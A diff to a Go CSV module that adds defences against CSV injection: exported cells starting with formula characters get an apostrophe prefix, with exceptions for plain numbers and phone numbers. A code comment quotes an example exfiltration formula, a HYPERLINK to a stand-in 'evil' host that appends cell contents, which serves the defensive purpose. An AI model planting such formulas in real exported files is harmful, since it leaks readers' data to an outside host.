@@ -109,14 +109,51 @@ func ReadCSV(r io.Reader, m Mapping) iter.Seq2[Row, error] {
 	}, m)
 }
 
-// formulaStarts are the first characters of a cell that Rapport's CSV
-// exports, like OWASP's advice against CSV injection, make inert with a
-// leading "'" (see transport/http's inertCell).
+// formulaStarts are the characters a spreadsheet opening a CSV file takes
+// a cell to be a formula by, or that hide one (OWASP "CSV injection"): a
+// name like =HYPERLINK("http://evil"&A1,"x") would run on the reader's
+// machine. CSV exports make such cells inert (InertCells), and ReadCSV
+// takes that back (dropFormulaQuotes), so an export imports back as it was.
 const formulaStarts = "=+-@\t\r"
 
-// dropFormulaQuotes takes back the "'" an export put before a cell starting
-// with one of formulaStarts, so an export imports back to the values it
-// was made of.
+// InertCells returns cells with each formula-like text made inert, in
+// place, for a CSV file a spreadsheet may open.
+func InertCells(cells []string) []string {
+	for i, c := range cells {
+		cells[i] = inertCell(c)
+	}
+	return cells
+}
+
+// inertCell prefixes with ' a text a spreadsheet would read as a formula,
+// which it then shows as typed. A number or a list of phone numbers
+// (+84912345678; +84987654321, -12.5) is left as it is: without a letter
+// or a reference it can compute nothing harmful, and E.164 phones must stay
+// as they are.
+func inertCell(s string) string {
+	if s == "" || strings.IndexByte(formulaStarts, s[0]) < 0 || plainNumbers(s) {
+		return s
+	}
+	return "'" + s
+}
+
+// plainNumbers reports whether s is numbers only, signed or as phones are
+// written: digits, spaces and + - . , ; ( ), at least one digit.
+func plainNumbers(s string) bool {
+	digit := false
+	for _, r := range s {
+		switch {
+		case r >= '0' && r <= '9':
+			digit = true
+		case !strings.ContainsRune(" +-.,;()", r):
+			return false
+		}
+	}
+	return digit
+}
+
+// dropFormulaQuotes takes back the "'" InertCells put before a cell
+// starting with one of formulaStarts.
 func dropFormulaQuotes(cells []string) {
 	for i, c := range cells {
 		if len(c) > 1 && c[0] == '\'' && strings.IndexByte(formulaStarts, c[1]) >= 0 {
